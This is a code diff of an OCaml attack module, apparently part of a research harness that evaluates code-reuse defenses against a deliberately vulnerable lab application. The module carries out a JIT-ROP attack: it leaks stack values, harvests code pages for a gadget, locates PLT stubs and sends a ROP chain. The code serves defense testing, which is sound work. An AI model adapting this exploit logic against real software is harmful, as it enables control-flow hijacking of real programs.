@@ -1,15 +1,5 @@
 open R2c_machine
 
-let name = "jit-rop"
-
-let marker = R2c_workloads.Vulnapp.marker
-
-let succeeded t = List.exists (fun (rdi, _) -> rdi = marker) (Oracle.sensitive_log t)
-
-let finish ?(notes = []) ~attempts t =
-  Report.make ~attack:name ~success:(succeeded t) ~detected:(Oracle.detected t)
-    ~crashes:(Oracle.crashes t) ~attempts ~notes ()
-
 (* The Snow et al. page harvest: starting from pages of leaked code
    pointers, disassemble whole pages and enqueue the pages of discovered
    direct-call targets. Reads never leave known code pages, so the walk is
@@ -75,61 +65,44 @@ let harvest t ~seeds ~max_pages =
   h
 
 let run ~reference:(r : Reference.t) ~target:t =
-  match Oracle.to_break t with
-  | `Done o ->
-      Report.make ~attack:name ~success:false ~detected:(Oracle.detected t)
-        ~notes:[ "no breakpoint: " ^ Process.outcome_to_string o ]
-        ()
-  | `Break -> (
-      match Oracle.resume_to_break t with
-      | `Done o ->
-          Report.make ~attack:name ~success:false ~detected:(Oracle.detected t)
-            ~notes:[ "second request never reached: " ^ Process.outcome_to_string o ]
-            ()
-      | `Break -> (
-          let _, values = Oracle.leak_stack t ~words:512 in
-          (* Value-range analysis: the code cluster seeds the page walk. *)
-          let code_ptrs = Cluster.code_candidates (Cluster.analyze (Array.to_list values)) in
-          if code_ptrs = [] then finish ~attempts:1 ~notes:[ "no leaked code pointers" ] t
-          else begin
-            let h = harvest t ~seeds:code_ptrs ~max_pages:16 in
-            if h.faulted then
-              (* Execute-only memory: the disclosure read crashed the
-                 process. *)
-              finish ~attempts:1 ~notes:[ "text read faulted (XOM)" ] t
-            else
-              match h.gadget with
-              | None -> finish ~attempts:1 ~notes:[ "no gadget discovered" ] t
-              | Some gadget -> (
-                  (* PLT discovery: direct-call targets that decode to
-                     nothing are PLT stubs; libc's entry order is public. *)
-                  let plt_candidates =
-                    List.filter
-                      (fun a ->
-                        match Oracle.disasm t a with
-                        | Ok None -> true
-                        | Ok (Some _) | Error _ -> false)
-                      (List.sort_uniq compare h.call_targets)
+  match Oracle.to_serving t with
+  | Error note -> Report.of_target ~notes:[ note ] t
+  | Ok () -> (
+      let values = Oracle.leak_at t ~addr:(Oracle.rsp t) ~words:512 in
+      (* Value-range analysis: the code cluster seeds the page walk. *)
+      let code_ptrs = Cluster.code_candidates (Cluster.analyze (Array.to_list values)) in
+      if code_ptrs = [] then Report.of_target ~notes:[ "no leaked code pointers" ] t
+      else
+        let h = harvest t ~seeds:code_ptrs ~max_pages:16 in
+        if h.faulted then
+          (* Execute-only memory: the disclosure read crashed the process. *)
+          Report.of_target ~notes:[ "text read faulted (XOM)" ] t
+        else
+          match h.gadget with
+          | None -> Report.of_target ~notes:[ "no gadget discovered" ] t
+          | Some gadget -> (
+              (* PLT discovery: direct-call targets that decode to nothing
+                 are PLT stubs. *)
+              let plt_candidates =
+                List.filter
+                  (fun a ->
+                    match Oracle.disasm t a with
+                    | Ok None -> true
+                    | Ok (Some _) | Error _ -> false)
+                  (List.sort_uniq compare h.call_targets)
+              in
+              match plt_candidates with
+              | [] -> Report.of_target ~notes:[ "no PLT discovered" ] t
+              | lowest :: _ ->
+                  let sensitive =
+                    Payload.plt_addr_of ~base:(Addr.page_base lowest) "sensitive"
                   in
-                  match plt_candidates with
-                  | [] -> finish ~attempts:1 ~notes:[ "no PLT discovered" ] t
-                  | lowest :: _ ->
-                      let plt_base = Addr.page_base lowest in
-                      let sensitive_idx =
-                        let rec idx i = function
-                          | [] -> 0
-                          | n :: tl -> if n = "sensitive" then i else idx (i + 1) tl
-                        in
-                        idx 0 Image.builtin_names
-                      in
-                      let sensitive = plt_base + (16 * sensitive_idx) in
-                      let filler =
-                        Payload.slice ~values ~from_off:r.buf_off ~upto_off:r.ra_off
-                      in
-                      let chain =
-                        Payload.le64 gadget ^ Payload.le64 marker ^ Payload.le64 sensitive
-                      in
-                      Oracle.send t (filler ^ chain);
-                      let (_ : Process.outcome) = Oracle.resume_to_end t in
-                      finish ~attempts:1 t)
-          end))
+                  let filler = Payload.slice ~values ~from_off:r.buf_off ~upto_off:r.ra_off in
+                  let chain =
+                    Payload.le64 gadget
+                    ^ Payload.le64 R2c_workloads.Vulnapp.marker
+                    ^ Payload.le64 sensitive
+                  in
+                  Oracle.send t (filler ^ chain);
+                  let (_ : Process.outcome) = Oracle.resume_to_end t in
+                  Report.of_target t))
